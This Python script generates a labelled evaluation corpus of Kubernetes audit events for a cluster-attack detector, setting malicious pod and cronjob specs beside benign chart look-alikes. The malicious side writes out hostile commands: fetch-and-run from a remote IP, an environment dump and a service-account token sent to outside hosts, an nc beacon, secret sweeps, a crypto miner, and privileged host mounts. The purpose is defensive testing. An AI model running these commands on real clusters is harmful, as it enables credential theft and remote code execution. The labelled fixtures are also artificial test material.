#!/usr/bin/env python3
"""Writes the labelled corpus of the detection families of issue 17 (src/test/resources/fixtures/eval/breadth.jsonl
and breadth-labels.json): per family, realistic attacks and benign look-alikes. The benign side follows the pod
specs shipped by real charts and manifests (descheduler, cert-manager, kube-bench, kaniko, velero, database dump
and curl health-check CronJobs), reduced to the fields that matter; see docs/DETECTION.md."""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "src", "test", "resources", "fixtures", "eval")
HUMAN = "dana@example.com"
CI = "system:serviceaccount:ci:deployer"
events, labels = [], {}


def container(image, command=None, **extra):
    c = {"name": "main", "image": image}
    if command:
        c["command"] = command
    c.update(extra)
    return c


def add(family, malicious, resource, ns, name, spec, user=HUMAN, verb="create", around=None, meta=None):
    n = len(events) + 1
    audit_id = "b17a%04d-0000-4000-8000-%012d" % (n, n)
    pod = {"spec": spec}
    if meta:
        pod["metadata"] = meta
    if resource == "cronjobs":
        obj = {"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": name, "namespace": ns},
               "spec": dict({"schedule": "17 3 * * *", "jobTemplate": {"spec": {"template": pod}}}, **(around or {}))}
        if around and "ttlSecondsAfterFinished" in around:
            obj["spec"].pop("ttlSecondsAfterFinished")
            obj["spec"]["jobTemplate"]["spec"]["ttlSecondsAfterFinished"] = around["ttlSecondsAfterFinished"]
        uri, group = "/apis/batch/v1/namespaces/%s/cronjobs" % ns, "batch"
    elif resource == "jobs":
        obj = {"kind": "Job", "apiVersion": "batch/v1", "metadata": {"name": name, "namespace": ns},
               "spec": dict({"template": pod}, **(around or {}))}
        uri, group = "/apis/batch/v1/namespaces/%s/jobs" % ns, "batch"
    else:
        obj = dict({"kind": "Pod", "apiVersion": "v1", "metadata": dict({"name": name, "namespace": ns}, **(meta or {}))}, spec=spec)
        uri, group = "/api/v1/namespaces/%s/pods" % ns, ""
    ts = "2026-11-25T%02d:%02d:00.000000Z" % (n // 60 % 24, n % 60)
    events.append({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": audit_id,
                   "stage": "ResponseComplete", "requestURI": uri, "verb": verb,
                   "user": {"username": user, "groups": ["system:authenticated"]}, "sourceIPs": ["198.51.100.23"],
                   "userAgent": "kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc",
                   "objectRef": {"resource": resource, "namespace": ns, "name": name, "apiGroup": group, "apiVersion": "v1"},
                   "responseStatus": {"metadata": {}, "code": 201},
                   "requestObject": obj, "requestReceivedTimestamp": ts, "stageTimestamp": ts})
    labels[audit_id] = {"family": family, "malicious": malicious, "name": name}


sh = ["/bin/sh", "-c"]
restricted_sc = {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}, "readOnlyRootFilesystem": True,
                 "runAsNonRoot": True, "runAsUser": 1000, "seccompProfile": {"type": "RuntimeDefault"}}

# --- pod-security (baseline controls the first release did not read; restricted-only hints) ---
add("pod-security", True, "pods", "default", "win-agent",
    {"securityContext": {"windowsOptions": {"hostProcess": True, "runAsUserName": "NT AUTHORITY\\SYSTEM"}}, "hostNetwork": True,
     "containers": [container("mcr.microsoft.com/windows/nanoserver:ltsc2022", ["cmd.exe", "/c", "whoami"])]})
add("pod-security", True, "jobs", "web", "core-pattern",
    {"securityContext": {"sysctls": [{"name": "kernel.core_pattern", "value": "|/tmp/x"}]},
     "containers": [container("ubuntu:22.04", ["sleep", "3600"], securityContext={"procMount": "Unmasked"})]})
add("pod-security", True, "pods", "default", "net-tool",
    {"containers": [container("nicolaka/netshoot", ["sleep", "infinity"], securityContext={"capabilities": {"add": ["SYS_ADMIN"]}})]})
add("pod-security", True, "cronjobs", "build", "unconfined",
    {"securityContext": {"seccompProfile": {"type": "Unconfined"}},
     "containers": [container("ubuntu:22.04", ["sleep", "600"], securityContext={"appArmorProfile": {"type": "Unconfined"}})]})
add("pod-security", True, "pods", "default", "port-grab",
    {"containers": [container("nginx:1.27", ports=[{"containerPort": 2375, "hostPort": 2375}])]})
add("pod-security", True, "pods", "default", "selinux-spc",
    {"containers": [container("fedora:40", ["sleep", "600"], securityContext={"seLinuxOptions": {"type": "spc_t"}})]})
# benign: cert-manager's startupapicheck Job (restricted-compliant), a NET_BIND_SERVICE web Pod, a safe sysctl.
add("pod-security", False, "jobs", "cert-manager", "cert-manager-startupapicheck",
    {"serviceAccountName": "cert-manager-startupapicheck", "securityContext": {"runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}},
     "restartPolicy": "OnFailure",
     "containers": [container("quay.io/jetstack/cert-manager-startupapicheck:v1.16.1", args=["check", "api", "--wait=1m", "-v"],
                              securityContext={"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}, "readOnlyRootFilesystem": True})]},
    around={"backoffLimit": 4})
add("pod-security", False, "pods", "web", "edge-proxy",
    {"securityContext": {"sysctls": [{"name": "net.ipv4.ip_unprivileged_port_start", "value": "0"}]},
     "containers": [container("nginx:1.27", securityContext={"capabilities": {"drop": ["ALL"], "add": ["NET_BIND_SERVICE"]}, "allowPrivilegeEscalation": False})]})

# --- image provenance ---
add("image-provenance", True, "cronjobs", "default", "agent-sync",
    {"containers": [container("203.0.113.50:5000/tools/agent:latest", ["/agent"])]})
add("image-provenance", True, "pods", "default", "kube-proxy-helper",
    {"containers": [container("docker.io/k8s-system/kube-proxy:v1.31.0", ["/usr/local/bin/kube-proxy"])]})
add("image-provenance", True, "jobs", "default", "benchmark",
    {"containers": [container("docker.io/someone/cryptominer:latest")]})
add("image-provenance", True, "cronjobs", "default", "coredns-cache",
    {"containers": [container("ghcr.io/c0redns/coredns:1.11.1", ["/coredns"])]})
# benign: the official system images, a private-IP in-cluster registry is weighed low, kaniko build pod.
add("image-provenance", False, "jobs", "ops", "proxy-check",
    {"containers": [container("registry.k8s.io/kube-proxy:v1.31.0", ["kube-proxy", "--version"])]})
add("image-provenance", False, "pods", "ci", "kaniko-build-8f2k",
    {"restartPolicy": "Never", "volumes": [{"name": "kaniko-secret", "secret": {"secretName": "regcred", "items": [{"key": ".dockerconfigjson", "path": "config.json"}]}}],
     "containers": [container("gcr.io/kaniko-project/executor:v1.23.2",
                              args=["--dockerfile=Dockerfile", "--context=git://github.com/acme/app.git", "--destination=registry.acme.io/app:1.4.0"],
                              volumeMounts=[{"name": "kaniko-secret", "mountPath": "/kaniko/.docker"}])]}, user=CI)
add("image-provenance", False, "cronjobs", "ops", "registry-gc",
    {"containers": [container("10.0.12.5:5000/ops/registry-gc:2.1", ["/bin/registry-gc", "--dry-run=false"])]})

# --- sensitive host paths (completed list) ---
for name, path in [("etcd-snap", "/var/lib/etcd"), ("ctr-state", "/run/containerd"), ("pod-volumes", "/var/lib/kubelet/pods"),
                   ("sa-tokens", "/var/run/secrets/kubernetes.io"), ("azure-agent", "/var/lib/waagent")]:
    add("sensitive-host-path", True, "jobs", "default", name,
        {"volumes": [{"name": "h", "hostPath": {"path": path}}],
         "containers": [container("alpine:3.20", ["sleep", "3600"], volumeMounts=[{"name": "h", "mountPath": "/h"}])]})
# benign: kube-bench in its own namespace (allowlisted: it must read these paths), a PVC-backed dump.
add("sensitive-host-path", False, "jobs", "kube-bench", "kube-bench-node",
    {"hostPID": True, "restartPolicy": "Never",
     "volumes": [{"name": "var-lib-etcd", "hostPath": {"path": "/var/lib/etcd"}}, {"name": "var-lib-kubelet", "hostPath": {"path": "/var/lib/kubelet"}},
                 {"name": "etc-systemd", "hostPath": {"path": "/etc/systemd"}}, {"name": "etc-kubernetes", "hostPath": {"path": "/etc/kubernetes"}},
                 {"name": "usr-bin", "hostPath": {"path": "/usr/bin"}}],
     "containers": [container("docker.io/aquasec/kube-bench:v0.9.1", ["kube-bench"], args=["run", "--targets", "node"])]})

# --- placement ---
add("placement", True, "cronjobs", "default", "node-maint",
    {"nodeSelector": {"node-role.kubernetes.io/control-plane": ""},
     "tolerations": [{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists", "effect": "NoSchedule"}, {"operator": "Exists"}],
     "containers": [container("busybox:1.36", ["sleep", "3600"])]})
add("placement", True, "pods", "default", "pinned",
    {"nodeName": "ip-10-0-1-12.ec2.internal", "tolerations": [{"operator": "Exists"}],
     "containers": [container("busybox:1.36", ["sleep", "3600"])]})
add("placement", True, "jobs", "default", "affinity-cp",
    {"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
        {"matchExpressions": [{"key": "node-role.kubernetes.io/master", "operator": "Exists"}]}]}}},
     "tolerations": [{"operator": "Exists"}], "containers": [container("busybox:1.36", ["sleep", "3600"])]})
# benign: a batch job on a dedicated pool, a Job that avoids control-plane nodes.
add("placement", False, "jobs", "data", "spark-report",
    {"nodeSelector": {"kubernetes.io/os": "linux", "pool": "batch"},
     "tolerations": [{"key": "dedicated", "operator": "Equal", "value": "batch", "effect": "NoSchedule"}],
     "containers": [container("apache/spark:3.5.1", ["/opt/spark/bin/spark-submit", "--class", "Report", "local:///opt/app.jar"])]})
add("placement", False, "cronjobs", "ops", "report-not-on-cp",
    {"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
        {"matchExpressions": [{"key": "node-role.kubernetes.io/control-plane", "operator": "DoesNotExist"}]}]}}},
     "containers": [container("python:3.12-slim", ["python", "/app/report.py"])]})

# --- powerful service accounts ---
add("service-accounts", True, "cronjobs", "kube-system", "aggregator-sync",
    {"serviceAccountName": "clusterrole-aggregation-controller", "automountServiceAccountToken": True,
     "containers": [container("bitnami/kubectl:1.31", ["kubectl", "get", "clusterroles"])]})
add("service-accounts", True, "pods", "kube-system", "gc-debug",
    {"serviceAccountName": "generic-garbage-collector", "containers": [container("bitnami/kubectl:1.31", ["sleep", "infinity"])]})
# benign: descheduler's chart CronJob (kube-system, its own account, installed by a person with helm).
add("service-accounts", False, "cronjobs", "kube-system", "descheduler",
    {"serviceAccountName": "descheduler", "priorityClassName": "system-cluster-critical", "restartPolicy": "Never",
     "volumes": [{"name": "policy-volume", "configMap": {"name": "descheduler"}}],
     "containers": [container("registry.k8s.io/descheduler/descheduler:v0.31.0", ["/bin/descheduler"],
                              args=["--policy-config-file", "/policy-dir/policy.yaml", "--v", "3"], securityContext=restricted_sc,
                              volumeMounts=[{"name": "policy-volume", "mountPath": "/policy-dir"}])]},
    around={"concurrencyPolicy": "Forbid", "schedule": "*/2 * * * *"})

# --- system namespaces ---
add("namespaces", True, "pods", "kube-system", "kube-proxy-x7k2p",
    {"containers": [container("busybox:1.36", ["sleep", "infinity"])]})
add("namespaces", True, "cronjobs", "kube-node-lease", "node-problem-detector-cache",
    {"containers": [container("busybox:1.36", ["sleep", "60"])]}, user=CI)
add("namespaces", True, "jobs", "kube-public", "coredns-warmup",
    {"containers": [container("busybox:1.36", ["sleep", "60"])]})
# benign: velero's CRD upgrade hook Job in its own namespace; a kube-system add-on by the addon manager.
add("namespaces", False, "jobs", "velero", "velero-upgrade-crds",
    {"serviceAccountName": "velero-server", "restartPolicy": "OnFailure",
     "volumes": [{"name": "crds", "emptyDir": {}}],
     "initContainers": [container("docker.io/bitnami/kubectl:1.31", ["/bin/sh", "-c", "cp `which sh` /tmp && cp `which kubectl` /tmp"],
                                  volumeMounts=[{"name": "crds", "mountPath": "/tmp"}])],
     "containers": [container("velero/velero:v1.14.1", ["/tmp/sh"], args=["-c", "/velero install --crds-only --dry-run -o yaml | /tmp/kubectl apply -f -"],
                              volumeMounts=[{"name": "crds", "mountPath": "/tmp"}])]})
add("namespaces", False, "jobs", "kube-system", "kube-dns-autoscaler-migrate",
    {"containers": [container("registry.k8s.io/cpa/cluster-proportional-autoscaler:v1.8.9", ["/cluster-proportional-autoscaler", "--version"])]},
    user="system:addon-manager")

# --- commands ---
for name, cmd in [("fetch-run", "curl -so /tmp/u http://198.51.100.7/u; sh /tmp/u"),
                  ("env-dump", "env | curl -X POST --data-binary @- https://webhook.site/3f2a"),
                  ("token-ship", "curl -F f=@/var/run/secrets/kubernetes.io/serviceaccount/token https://transfer.example/up"),
                  ("nc-beacon", "while true; do nc 203.0.113.9 4444; sleep 60; done"),
                  ("secret-sweep", "kubectl get secrets -A -o yaml > /tmp/s; sleep 3600")]:
    add("commands", True, "cronjobs", "default", name, {"containers": [container("bitnami/kubectl:1.31", sh + [cmd])]})
# the same through the kubelet's $(VAR) expansion of a literal env value
add("commands", True, "cronjobs", "default", "env-indirect",
    {"containers": [container("bitnami/kubectl:1.31", sh + ["$(TASK)"], env=[{"name": "TASK", "value": "kubectl get secret --all-namespaces -o json"}])]})
add("commands", True, "jobs", "default", "kworker",
    {"containers": [container("ghcr.io/acme/tools:1", ["/usr/local/bin/kworker"], args=["-o", "pool.supportxmr.com:3333", "-u", "4Axyz", "--cpu-priority", "5"])]})
# benign: a database dump CronJob (postgres), a curl health check, a kubectl rollout in its own namespace.
add("commands", False, "cronjobs", "db", "pg-dump-nightly",
    {"restartPolicy": "OnFailure", "volumes": [{"name": "backup", "persistentVolumeClaim": {"claimName": "pg-backup"}}],
     "containers": [container("postgres:16", sh + ["pg_dump -h postgres -U app app | gzip > /backup/app-$(date +%F).sql.gz"],
                              env=[{"name": "PGPASSWORD", "valueFrom": {"secretKeyRef": {"name": "pg", "key": "password"}}}],
                              volumeMounts=[{"name": "backup", "mountPath": "/backup"}])]},
    around={"successfulJobsHistoryLimit": 3, "failedJobsHistoryLimit": 1, "concurrencyPolicy": "Forbid"})
add("commands", False, "cronjobs", "web", "healthz-probe",
    {"restartPolicy": "Never", "containers": [container("curlimages/curl:8.10.1", ["curl", "-fsS", "-o", "/dev/null", "--max-time", "5", "http://web.web.svc/healthz"])]},
    around={"schedule": "*/5 * * * *", "concurrencyPolicy": "Forbid"})
add("commands", False, "cronjobs", "ops", "restart-web",
    {"serviceAccountName": "restarter", "containers": [container("bitnami/kubectl:1.31", ["kubectl", "rollout", "restart", "deployment/web", "-n", "web"])]})
add("commands", False, "cronjobs", "db", "mysql-dump",
    {"containers": [container("mysql:8.4", sh + ["mysqldump --all-databases -h mysql > /dump/all.sql && curl -fsS -T /dump/all.sql https://backup.acme.io/mysql/"])]})

# --- anti-forensics (weak: an alert only together with something else) ---
add("anti-forensics", True, "cronjobs", "default", "tick",
    {"nodeName": "ip-10-0-1-12.ec2.internal", "containers": [container("alpine:3.20", sh + ["wget -q http://198.51.100.7/p -O /dev/null"])]},
    around={"schedule": "* * * * *", "successfulJobsHistoryLimit": 0, "failedJobsHistoryLimit": 0, "ttlSecondsAfterFinished": 0})
# benign: a tidy every-minute queue drainer and a cleanup job that deletes itself when done.
add("anti-forensics", False, "cronjobs", "jobs", "queue-drain",
    {"containers": [container("ghcr.io/acme/drainer:2.3", ["/drain", "--once"])]},
    around={"schedule": "* * * * *", "concurrencyPolicy": "Forbid", "successfulJobsHistoryLimit": 1})
add("anti-forensics", False, "cronjobs", "jobs", "tmp-reaper",
    {"containers": [container("ghcr.io/acme/reaper:1.0", ["/reaper"])]},
    around={"successfulJobsHistoryLimit": 0, "failedJobsHistoryLimit": 0, "ttlSecondsAfterFinished": 0})

with open(os.path.join(OUT, "breadth.jsonl"), "w") as fh:
    for e in events:
        fh.write(json.dumps(e, separators=(",", ":")) + "\n")
with open(os.path.join(OUT, "breadth-labels.json"), "w") as fh:
    json.dump(labels, fh, indent=1, sort_keys=True)
print(len(events), "events")
